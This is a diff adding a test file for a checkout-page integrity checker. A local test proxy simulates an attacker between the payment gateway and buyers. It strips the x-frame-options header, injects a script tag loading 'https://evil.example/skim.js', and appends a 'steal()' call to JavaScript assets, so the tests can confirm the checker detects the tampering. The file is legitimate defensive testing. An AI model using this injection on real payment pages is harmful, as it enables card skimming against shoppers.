@@ -1,0 +1,88 @@
+import { execFile } from "node:child_process";
+import { randomUUID } from "node:crypto";
+import { createServer, type ServerResponse } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
+import { pageOf, startTestCheckouts } from "../../test/test-checkouts.ts";
+import { startTestGateway, type TestGateway, type TestMerchant } from "../../test/test-gateway.ts";
+
+let gateway: TestGateway;
+let checkouts: Awaited<ReturnType<typeof startTestCheckouts>>;
+let merchant: TestMerchant;
+beforeAll(async () => {
+  gateway = await startTestGateway({ PUBLIC_URL: "https://pay.example.test" });
+  checkouts = await startTestCheckouts(gateway.nats.url);
+  merchant = await gateway.createMerchant({ name: "A <shop>" });
+});
+afterAll(async () => {
+  await checkouts.stop();
+  await gateway.stop();
+});
+
+const probe = (...args: string[]) =>
+  new Promise<{ code: number; text: string }>((resolve) => {
+    const program = [join(import.meta.dirname, "main.ts"), ...args];
+    const child = execFile(process.execPath, program, (_error, stdout, stderr) =>
+      resolve({ code: child.exitCode ?? -1, text: stdout + stderr }),
+    );
+  });
+
+const address = (port: number, id: string) => `http://127.0.0.1:${port}/checkout/${id}`;
+
+test.each(["OPEN", "EXPIRED"] as const)("an %s checkout's page is as released", async (status) => {
+  const page = pageOf({ merchantId: merchant.merchantId, status });
+  checkouts.answers.view = async () => ({ outcome: "done", result: page });
+  expect(await probe("--url", address(gateway.ports.public!, page.checkoutId))).toEqual({
+    code: 0,
+    text: expect.stringMatching(/^as released: \d+ headers, 2 tags, 2 files\n$/),
+  });
+});
+
+test("so is the page of a checkout that does not exist", async () => {
+  checkouts.answers.view = async () => ({ outcome: "problem", code: "checkout_not_found" });
+  expect(await probe("--url", address(gateway.ports.public!, randomUUID()))).toMatchObject({ code: 0 });
+});
+
+test("what a proxy has changed is named, with what it was", async () => {
+  checkouts.answers.view = async () => ({ outcome: "problem", code: "checkout_not_found" });
+  const port = await startChangingProxy();
+  const { code, text } = await probe("--url", address(port, randomUUID()), "--allow-header", "Server");
+  expect(code).toBe(1);
+  expect(text).toContain("header x-frame-options\n  - DENY\n  + (not there)\n");
+  expect(text).toContain('tag\n  - (not there)\n  + <script src="https://evil.example/skim.js">\n');
+  expect(text).toMatch(/SHA-256 of \/checkout\/assets\/checkout\.\w+\.js\n {2}- \w{64}\n {2}\+ \w{64}\n/);
+  expect(text).toContain("3 differences");
+});
+
+test("without an answer, or with one that is no page, nothing is said of the page", async () => {
+  expect(await probe("--url", "http://127.0.0.1:1/checkout/1")).toMatchObject({ code: 2 });
+  checkouts.answers.view = async () => ({ outcome: "not_started" });
+  expect(await probe("--url", address(gateway.ports.public!, randomUUID()))).toEqual({
+    code: 2,
+    text: expect.stringContaining("was answered with 503"),
+  });
+  expect(await probe()).toMatchObject({ code: 2, text: expect.stringContaining("--url") });
+});
+
+/** As somebody would who stands between the gateway and its buyers. */
+async function startChangingProxy(): Promise<number> {
+  const proxy = createServer((request, answer) => void passOn(request.url!, answer));
+  await new Promise<void>((resolve) => proxy.listen(0, "127.0.0.1", resolve));
+  onTestFinished(() => void proxy.close());
+  return (proxy.address() as AddressInfo).port;
+}
+
+async function passOn(url: string, answer: ServerResponse): Promise<void> {
+  const response = await fetch(`http://127.0.0.1:${gateway.ports.public}${url}`);
+  const body = await response.text();
+  for (const [name, value] of response.headers) {
+    if (!["content-length", "connection", "x-frame-options"].includes(name)) answer.setHeader(name, value);
+  }
+  answer.setHeader("Server", "proxy").writeHead(response.status);
+  answer.end(
+    url.endsWith(".js")
+      ? `${body};steal()`
+      : body.replace("</head>", '<script src="https://evil.example/skim.js"></script></head>'),
+  );
+}
